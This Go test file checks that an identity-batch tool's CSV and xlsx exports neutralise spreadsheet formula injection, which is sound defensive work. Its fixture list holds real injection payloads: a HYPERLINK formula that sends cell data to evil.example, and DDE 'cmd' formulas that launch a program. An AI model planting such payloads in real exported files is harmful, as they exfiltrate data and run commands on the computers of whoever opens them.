package ops_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ivsbatch/ivsbatch/identity"
	"github.com/ivsbatch/ivsbatch/ingest"
	"github.com/ivsbatch/ivsbatch/internal/testenv"
	"github.com/ivsbatch/ivsbatch/objstore"
	"github.com/ivsbatch/ivsbatch/ops"
	"github.com/ivsbatch/ivsbatch/store"
)

// formulaRefs are manifest refs a spreadsheet would run: a link that sends
// the row away, DDE command lines, a formula behind @, a full-width =.
var formulaRefs = []string{
	`=HYPERLINK("http://evil.example/?d="&B2,"click")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`＝1+1`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
}

// An export of formula refs, read back by readers that are not ours, shows
// them as text: encoding/csv sees the apostrophe-prefixed cells (raw cells
// with -raw), Python's zipfile and XML parser see string-typed xlsx cells
// and no formula anywhere.
func TestExportNeutralisesFormulas(t *testing.T) {
	st, batch := exportBatch(t)

	var neutral, raw bytes.Buffer
	if n, err := ops.Export(t.Context(), st, batch, &neutral); err != nil || n != len(formulaRefs)+1 {
		t.Fatalf("export: %d records, %v", n, err)
	}
	if _, err := ops.ExportAs(t.Context(), st, batch, &raw, ops.ExportOptions{Raw: true}); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		out    []byte
		prefix string
	}{"default": {neutral.Bytes(), "'"}, "raw": {raw.Bytes(), ""}} {
		refs := csvRefs(t, c.out)
		for _, f := range formulaRefs {
			if !refs[c.prefix+f] {
				t.Errorf("%s CSV: ref %q not exported as %q (refs: %v)", name, f, c.prefix+f, refs)
			}
		}
		if !refs["plain-1"] {
			t.Errorf("%s CSV: a plain ref was changed: %v", name, refs)
		}
	}

	path := filepath.Join(t.TempDir(), "batch.xlsx")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ops.ExportAs(t.Context(), st, batch, f, ops.ExportOptions{Format: ops.FormatXLSX}); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	cells := readXLSX(t, path)
	refs := map[string]bool{}
	for _, c := range cells {
		if c.Formula {
			t.Errorf("xlsx cell %s holds a formula: %+v", c.Ref, c)
		}
		col := strings.TrimRight(c.Ref, "0123456789")
		switch {
		case col == "B" && c.Ref != "B1":
			if c.Type != "s" && c.Type != "inlineStr" {
				t.Errorf("ref cell %s typed %q, want a string", c.Ref, c.Type)
			}
			refs[c.Text] = true
		case col == "A" && c.Ref != "A1" && c.Type != "":
			t.Errorf("id cell %s typed %q, want a number", c.Ref, c.Type)
		}
	}
	for _, f := range append(formulaRefs, "plain-1") {
		if !refs[f] {
			t.Errorf("xlsx: ref %q not among the string cells %v", f, refs)
		}
	}
	if _, err := ops.ExportAs(t.Context(), st, batch, &raw, ops.ExportOptions{Format: ops.FormatXLSX, Raw: true}); err == nil {
		t.Error("xlsx with raw cells accepted")
	}
}

// exportBatch submits a manifest, written with encoding/csv, whose refs are
// formulas, and returns the store and the batch.
func exportBatch(t *testing.T) (*store.Store, int64) {
	t.Helper()
	st, err := store.Open(t.Context(), testenv.PostgresURL(t), store.WithKeyring(testenv.Keyring(t)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(st.Close)
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	_ = w.Write([]string{"ref", "name", "id_number", "客户编号"})
	for i, ref := range append(formulaRefs, "plain-1") {
		first17 := "11010519491231" + string(rune('0'+i/10)) + string(rune('0'+i%10)) + "1"
		check, err := identity.CheckChar(first17)
		if err != nil {
			t.Fatal(err)
		}
		_ = w.Write([]string{ref, "张三", first17 + string(check), "=1+1"})
	}
	w.Flush()
	path := filepath.Join(t.TempDir(), "formulas.csv")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	objs, err := objstore.New(t.Context(), objstore.Config{})
	if err != nil {
		t.Fatal(err)
	}
	sum, err := ingest.Submit(t.Context(), st, ingest.ObjectOrFile(objs), path, ingest.SubmitOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Valid != len(formulaRefs)+1 {
		t.Fatalf("submit: %+v, want every row valid", sum)
	}
	return st, sum.BatchID
}

// csvRefs reads an export with encoding/csv and returns its ref column.
func csvRefs(t *testing.T, out []byte) map[string]bool {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := slices.Clone(rows[0][:len(ops.ExportColumns)])
	if i := slices.Index(ops.ExportColumns, "finished_at"); strings.HasPrefix(header[i], "finished_at (") {
		header[i] = "finished_at" // the zone's name, for people
	}
	if strings.Join(header, ",") != strings.Join(ops.ExportColumns, ",") || rows[0][len(header)] != "客户编号" {
		t.Fatalf("header %q", rows[0])
	}
	refs := map[string]bool{}
	for _, r := range rows[1:] {
		refs[r[1]] = true
	}
	return refs
}

type xlsxCell struct {
	Ref     string `json:"ref"`
	Type    string `json:"t"`
	Formula bool   `json:"formula"`
	Text    string `json:"text"`
}

// readXLSX lists every cell of an xlsx's sheets with Python's zipfile and
// XML parser (not the library that wrote it).
func readXLSX(t *testing.T, path string) []xlsxCell {
	t.Helper()
	const script = `
import json, sys, zipfile, xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
z = zipfile.ZipFile(sys.argv[1])
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns):
        shared.append("".join(t.text or "" for t in si.iter("{%s}t" % ns["m"])))
cells = []
for name in z.namelist():
    if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
        continue
    for c in ET.fromstring(z.read(name)).iter("{%s}c" % ns["m"]):
        t = c.get("t", "")
        v = c.find("m:v", ns)
        text = "".join(x.text or "" for x in c.iter("{%s}t" % ns["m"]))
        if t == "s":
            text = shared[int(v.text)]
        elif v is not None and not text:
            text = v.text or ""
        cells.append({"ref": c.get("r"), "t": t, "formula": c.find("m:f", ns) is not None, "text": text})
json.dump(cells, sys.stdout)
`
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Fatalf("python3 (scripts/deps.sh installs it) reads the xlsx back: %v", err)
	}
	out, err := exec.Command(py, "-c", script, path).Output()
	if err != nil {
		t.Fatalf("python3 could not read the xlsx: %v", err)
	}
	var cells []xlsxCell
	if err := json.Unmarshal(out, &cells); err != nil {
		t.Fatal(err)
	}
	if len(cells) < len(ops.ExportColumns)*(len(formulaRefs)+2)/2 {
		t.Fatalf("python3 read %d cells", len(cells))
	}
	return cells
}
